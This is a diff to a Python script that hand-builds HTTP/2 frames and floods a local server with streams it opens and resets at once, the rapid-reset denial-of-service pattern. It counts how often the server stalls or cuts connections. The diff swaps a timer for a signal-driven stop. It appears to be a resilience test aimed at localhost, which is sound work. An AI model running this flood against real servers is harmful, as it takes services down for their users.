@@ -6,11 +6,11 @@
 Frames are written by hand: no HTTP/2 library would send this.
 """
 
+import signal
 import socket
 import struct
 import sys
 import threading
-import time
 
 HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
 END_STREAM_AND_HEADERS = 0x5
@@ -38,8 +38,8 @@ def resets(first):
 WRITES = [resets(1 + 2 * STREAMS_A_WRITE * number) for number in range(1000)]
 
 
-def attack(port, end, counts):
-    while time.monotonic() < end:
+def attack(port, stop, counts):
+    while not stop.is_set():
         counts["connections"] += 1
         with socket.create_connection(("127.0.0.1", port)) as peer:
             peer.settimeout(1)
@@ -47,7 +47,7 @@ def attack(port, end, counts):
             try:
                 peer.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                 for write in WRITES:
-                    if time.monotonic() > end:
+                    if stop.is_set():
                         return
                     peer.sendall(write)
                     counts["resets"] += STREAMS_A_WRITE
@@ -59,11 +59,14 @@ def attack(port, end, counts):
 
 def main():
     port, seconds, connections = (int(argument) for argument in sys.argv[1:4])
-    end = time.monotonic() + seconds
+    stop = threading.Event()
+    signal.signal(signal.SIGINT, lambda *_: stop.set())
     counts = {"resets": 0, "connections": 0, "stalled": 0, "cut by the server": 0}
-    threads = [threading.Thread(target=attack, args=(port, end, counts)) for _ in range(connections)]
+    threads = [threading.Thread(target=attack, args=(port, stop, counts)) for _ in range(connections)]
     for thread in threads:
         thread.start()
+    stop.wait(seconds)
+    stop.set()
     for thread in threads:
         thread.join()
     print(", ".join(f"{count} {name}" for name, count in counts.items()))
